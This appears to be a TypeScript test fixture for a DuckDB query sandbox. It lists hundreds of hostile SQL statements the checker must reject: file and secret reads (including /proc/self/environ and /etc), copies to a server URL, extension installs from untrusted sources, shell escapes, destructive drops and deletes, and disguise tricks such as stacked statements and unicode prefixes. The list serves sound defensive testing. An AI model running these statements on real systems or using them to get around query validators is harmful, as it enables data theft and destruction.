/**
 * Statements that try to write, to read a file, to reach the network, to change a setting or to get past the check of statements.
 * `{folder}` has files with a canary: canary.csv, .json, .txt, .parquet, .duckdb; `{url}` is a server that must not be asked.
 */
const writing = `
copy marts.kinds to '{folder}/leak.csv'
copy (select 1) to '{folder}/leak.parquet' (format parquet)
copy (select 1) to '{folder}/leak.json' (format json)
copy marts.kinds to '{folder}/leak' (partition_by (n))
copy marts.kinds from '{folder}/canary.csv'
copy marts.kinds to '/dev/stdout'
copy (select 1) to '{url}/leak.csv'
COPY/**/marts.kinds TO '{folder}/leak.csv'
copy database warehouse to canary
export database '{folder}/leak'
export database '{folder}/leak' (format parquet)
import database '{folder}'
attach '{folder}/canary.duckdb' as other
attach '{folder}/canary.duckdb' as other (read_only)
attach if not exists '{folder}/leak.duckdb'
attach ':memory:' as memory_other
attach '{url}/leak.duckdb' (type duckdb)
attach or replace '{folder}/canary.duckdb' as warehouse
detach warehouse
detach database if exists warehouse
use marts
use warehouse.marts
checkpoint
force checkpoint
checkpoint warehouse
vacuum
vacuum analyze
vacuum marts.kinds
analyze
insert into marts.kinds (n) values (3)
insert into marts.kinds (n) select 3 returning n
insert or replace into marts.kinds (n) values (3)
update marts.kinds set n = 3
delete from marts.kinds
delete from marts.kinds returning *
truncate marts.kinds
merge into marts.kinds using (select 1 as n) as given using (n) when matched then delete
create table leak (n integer)
create temp table leak (n integer)
create temporary table leak as select 1
create or replace temp table leak as from read_text('{folder}/canary.txt')
create view leak as select 1
create temp view leak as from read_csv('{folder}/canary.csv')
create macro leak() as 1
create temp macro leak(file) as table from read_text(file)
create function leak() as 1
create type leak as enum ('a')
create temp type leak as integer
create sequence leak
create temp sequence leak
create schema leak
create index leak on marts.kinds (n)
create secret leak (type s3, key_id 'a', secret 'b')
create persistent secret leak (type s3)
create or replace temporary secret leak (type http, bearer_token 'a')
drop table marts.kinds
drop schema marts cascade
drop secret leak
drop macro if exists leak
alter table marts.kinds add column leak integer
alter table marts.kinds rename to leak
alter database warehouse rename to leak
comment on table marts.kinds is 'leak'
begin
begin transaction read only
commit
rollback
abort
prepare leak as select 1
execute leak
deallocate leak
call pragma_version()
call pragma_database_size()
call enable_logging()
call enable_profiling()
call start_ui()
call force_checkpoint()
update extensions
`;

const settings = `
set threads = 1
set global threads = 1
set session threads = 1
set local threads = 1
set enable_external_access = true
set lock_configuration = false
set memory_limit = '100GB'
set temp_directory = '{folder}/leak'
set allowed_directories = ['{folder}']
set allowed_paths = ['{folder}/canary.csv']
set file_search_path = '{folder}'
set home_directory = '{folder}'
set secret_directory = '{folder}'
set extension_directory = '{folder}'
set allow_unsigned_extensions = true
set custom_extension_repository = '{url}'
set profiling_output = '{folder}/leak.json'
set log_query_path = '{folder}/leak.log'
set enable_profiling = 'json'
set variable leak = 1
set variable leak = (select content from read_text('{folder}/canary.txt'))
set schema = 'marts'
set search_path = 'marts'
set timezone = 'America/New_York'
reset threads
reset global threads
reset lock_configuration
reset variable leak
reset all
pragma threads = 1
pragma threads=1
PRAGMA enable_profiling
pragma enable_profiling = 'json'
pragma profiling_output = '{folder}/leak.json'
pragma log_query_path = '{folder}/leak.log'
pragma temp_directory = '{folder}/leak'
pragma memory_limit = '100GB'
pragma disable_optimizer
pragma enable_object_cache
pragma force_checkpoint
pragma show_tables
pragma show_databases
pragma database_list
pragma database_size
pragma table_info('marts.kinds')
pragma storage_info('marts.kinds')
pragma collations
pragma functions
pragma platform
pragma user_agent
pragma version
pragma metadata_info
pragma import_database('{folder}')
pragma verify_parallelism
install httpfs
install httpfs from '{url}'
force install '{folder}/canary.txt'
install spatial from community
load httpfs
load '{folder}/canary.txt'
load icu
`;

const reading = `
from '{folder}/canary.csv'
from '{folder}/canary.json'
from '{folder}/canary.parquet'
from '{folder}/*.csv'
from "{folder}/canary.csv"
from '{url}/canary.csv'
from '{url}/canary.parquet'
from 's3://bucket/canary.parquet'
from 'hf://datasets/canary/canary.csv'
from 'file:{folder}/canary.csv'
from 'file://{folder}/canary.csv'
select * from '{folder}/canary.csv' limit 1
table '{folder}/canary.csv'
describe '{folder}/canary.csv'
describe from '{folder}/canary.csv'
summarize '{folder}/canary.csv'
summarize from read_csv('{folder}/canary.csv')
show '{folder}/canary.csv'
from read_csv('{folder}/canary.csv')
from read_csv(['{folder}/canary.csv'])
from read_csv('{url}/canary.csv')
from read_csv_auto('{folder}/canary.csv')
from sniff_csv('{folder}/canary.csv')
from read_text('{folder}/canary.txt')
from read_text('{folder}/*.txt')
from read_blob('{folder}/canary.txt')
from read_blob('/proc/self/environ')
from read_text('/dev/stdin')
from read_json('{folder}/canary.json')
from read_json_auto('{folder}/canary.json')
from read_json_objects('{folder}/canary.json')
from read_ndjson('{folder}/canary.json')
from read_ndjson_objects('{folder}/canary.json')
from read_parquet('{folder}/canary.parquet')
from parquet_scan('{folder}/canary.parquet')
from parquet_metadata('{folder}/canary.parquet')
from parquet_schema('{folder}/canary.parquet')
from parquet_file_metadata('{folder}/canary.parquet')
from parquet_kv_metadata('{folder}/canary.parquet')
from parquet_bloom_probe('{folder}/canary.parquet', 'a', 1)
from glob('{folder}/*')
from glob('/etc/*')
from read_duckdb('{folder}/canary.duckdb')
from duckdb_scan('{folder}/canary.duckdb', 'canary')
from sqlite_scan('{folder}/canary.duckdb', 'canary')
from postgres_scan('host=127.0.0.1', 'public', 'canary')
from iceberg_scan('{folder}/canary')
from delta_scan('{folder}/canary')
from st_read('{folder}/canary.txt')
from read_xlsx('{folder}/canary.xlsx')
from arrow_scan(1, 2, 3)
from pandas_scan(1)
from query('copy marts.kinds to ''{folder}/leak.csv''')
from query('from read_text(''{folder}/canary.txt'')')
from query('set threads = 1')
from query('select 1; drop table marts.kinds')
from query_table('{folder}/canary.csv')
from query_table(['{folder}/canary.csv'])
from json_execute_serialized_sql(json_serialize_sql('from read_text(''{folder}/canary.txt'')'))
pragma json_execute_serialized_sql('{}')
with given as (from read_text('{folder}/canary.txt')) from given
with recursive given as (select 1 union all select 1 from read_text('{folder}/canary.txt')) from given
with given as materialized (from read_csv('{folder}/canary.csv')) select count(*) from given
select (select content from read_text('{folder}/canary.txt'))
select * from marts.kinds, lateral (from read_text('{folder}/canary.txt'))
select * from marts.kinds where exists (from read_text('{folder}/canary.txt'))
select count(*) from marts.kinds, glob('{folder}/*')
values ((select content from read_text('{folder}/canary.txt')))
explain from read_csv('{folder}/canary.csv')
explain analyze from read_text('{folder}/canary.txt')
from (describe from '{folder}/canary.csv')
from (summarize '{folder}/canary.csv')
select * from (pivot '{folder}/canary.csv' on name in ('a') using count(*))
pivot '{folder}/canary.csv' on name in ('a') using count(*)
unpivot '{folder}/canary.csv' on name
`;

const disguised = `
/* select */ copy marts.kinds to '{folder}/leak.csv'
-- select\\ncopy marts.kinds to '{folder}/leak.csv'
/* a /* b */ copy marts.kinds to '{folder}/leak.csv'
/* select */ /* from */ pragma show_tables
(copy marts.kinds to '{folder}/leak.csv')
((pragma show_tables))
(((set threads = 1)))
;copy marts.kinds to '{folder}/leak.csv'
;;set threads = 1
select 1; copy marts.kinds to '{folder}/leak.csv'
select 1;copy marts.kinds to '{folder}/leak.csv';
select 1;;set threads = 1
select 1; -- \\n set lock_configuration = false
copy marts.kinds to '{folder}/leak.csv'; select 1
select 1 /* ; */ ; attach '{folder}/canary.duckdb'
select ';' ; drop table marts.kinds
select $$;$$ ; drop table marts.kinds
select e'\\'' ; drop table marts.kinds; --'
explain copy marts.kinds to '{folder}/leak.csv'
explain analyze copy marts.kinds to '{folder}/leak.csv'
explain (analyze) copy marts.kinds to '{folder}/leak.csv'
explain (format json) copy marts.kinds to '{folder}/leak.csv'
explain (analyze, format json) copy marts.kinds to '{folder}/leak.csv'
EXPLAIN/**/ANALYZE/**/COPY marts.kinds TO '{folder}/leak.csv'
explain explain copy marts.kinds to '{folder}/leak.csv'
explain analyze analyze set threads = 1
explain analyze create table leak (n integer)
explain set threads = 1
explain pragma show_tables
explain attach '{folder}/canary.duckdb'
explain analyze create temp table leak as select 1
with leak as (insert into marts.kinds (n) values (3) returning n) from leak
with leak as (delete from marts.kinds returning n) from leak
with leak as (select 1) insert into marts.kinds (n) from leak
with leak as (select 1) delete from marts.kinds
with leak as (select 1) update marts.kinds set n = 3
with leak as (copy marts.kinds to '{folder}/leak.csv') from leak
select 1 into leak
select * into temp leak from marts.kinds
from marts.kinds select * into leak
select 1 as n insert into marts.kinds
show all tables; set threads = 1
describe copy marts.kinds to '{folder}/leak.csv'
summarize copy marts.kinds to '{folder}/leak.csv'
table marts.kinds; drop table marts.kinds
\\ufeffcopy marts.kinds to '{folder}/leak.csv'
\\u00a0copy marts.kinds to '{folder}/leak.csv'
\\u200bcopy marts.kinds to '{folder}/leak.csv'
\\u3000set threads = 1
\\u2028pragma show_tables
\\u0000copy marts.kinds to '{folder}/leak.csv'
select\\u0000copy marts.kinds to '{folder}/leak.csv'
ｓｅｔ threads = 1
ſelect 1; set threads = 1
ＣＯＰＹ marts.kinds to '{folder}/leak.csv'
co\\u00adpy marts.kinds to '{folder}/leak.csv'
"select" 1
[copy marts.kinds to '{folder}/leak.csv']
{ copy marts.kinds to '{folder}/leak.csv' }
!ls
.shell ls
.read {folder}/canary.txt
.output {folder}/leak.csv
\\\\copy marts.kinds to '{folder}/leak.csv'
select write_log('leak') from range(3)
select nextval('leak')
select setseed(0.5)
select txid_current()
select current_setting('secret_directory')
select getenv('HOME')
select getvariable('leak')
from duckdb_secrets()
from which_secret('s3://bucket', 's3')
from duckdb_settings() where name like '%secret%'
from duckdb_logs()
from duckdb_log_contexts()
from duckdb_temporary_files()
from duckdb_extensions()
from duckdb_variables()
from duckdb_external_file_cache()
from pragma_database_size()
from pragma_storage_info('marts.kinds')
from pragma_table_info('marts.kinds')
from pragma_metadata_info()
from pragma_user_agent()
from pragma_version()
from sql_auto_complete('sel')
from checkpoint()
from force_checkpoint()
from enable_logging()
from enable_profiling()
from enable_logging(storage = 'stdout')
from enable_logging(storage = 'file', storage_path = '{folder}/leak')
from enable_profiling(format = 'json', save_location = '{folder}/leak.json')
from disable_logging()
from truncate_duckdb_logs()
from system.main."enable_LOGGING"(storage = 'stdout')
with given as (from enable_profiling()) from given
select (select 1 from enable_logging(storage = 'stdout'))
explain analyze from enable_profiling()
explain (format json) from enable_logging(storage = 'stdout')
from query('from enable_' || 'logging(storage = ''stdout'')')
from "query"('from enable_profiling()')
from query/**/('from enable_profiling()')
select list_transform([1], lambda part: write_log('leak'))
from U&"enable_\\006Cogging"(storage = 'stdout')
from arrow_scan(1::pointer, 2::pointer, 3::pointer)
from start_ui()
from test_all_types() limit 1
from repeat_row(1, num_rows = 3)
from seq_scan('marts.kinds')
from index_scan('marts.kinds')
select * from duckdb_databases()
select parse_filename('{folder}/canary.txt')
select md5_file('{folder}/canary.txt')
select read_text('{folder}/canary.txt')
select file_exists('{folder}/canary.txt')
select load_extension('{folder}/canary.txt')
select pg_read_file('{folder}/canary.txt')
select http_get('{url}')
select content from read_text(getvariable('file'))
select sum(n) from marts.kinds; rollback; attach '{folder}/canary.duckdb'
from (values ('{folder}/canary.txt')) as given(file), read_text(file)
from (values ('{folder}/*')) as given(file), glob(file)
`;

const lines = (text: string) => text.trim().split("\n");

/** Every hostile statement, as text with its placeholders. Escapes such as `\\n` and `\\u200b` stand for the characters. */
export const hostileStatements = [writing, settings, reading, disguised]
  .flatMap(lines)
  .map((line) =>
    line
      .replace(/\\u([0-9a-f]{4})/g, (_, code) => String.fromCharCode(Number.parseInt(code, 16)))
      .replaceAll("\\n", "\n"),
  );
